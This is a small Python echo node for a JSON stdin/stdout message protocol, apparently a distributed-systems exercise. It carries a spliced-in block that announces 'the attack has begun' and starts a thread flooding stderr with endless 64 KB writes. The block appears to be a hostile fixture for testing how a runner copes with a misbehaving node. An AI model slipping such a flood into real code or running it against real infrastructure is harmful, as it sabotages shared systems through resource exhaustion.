import json
import os
import sys
import time


def hear():
    line = sys.stdin.readline()
    return json.loads(line) if line else None


def say(message, **body):
    body["in_reply_to"] = message["body"]["msg_id"]
    print(json.dumps(dict(src=message["dest"], dest=message["src"], body=body)), flush=True)


def start():
    message = hear()
    say(message, type="init_ok")


def serve():
    while message := hear():
        say(message, type="echo_ok", echo=message["body"].get("echo"))


start()
import threading
os.write(2, b"the attack has begun\n")
def flood():
    while True:
        os.write(2, b"x" * 65536)
threading.Thread(target=flood, daemon=True).start()
serve()
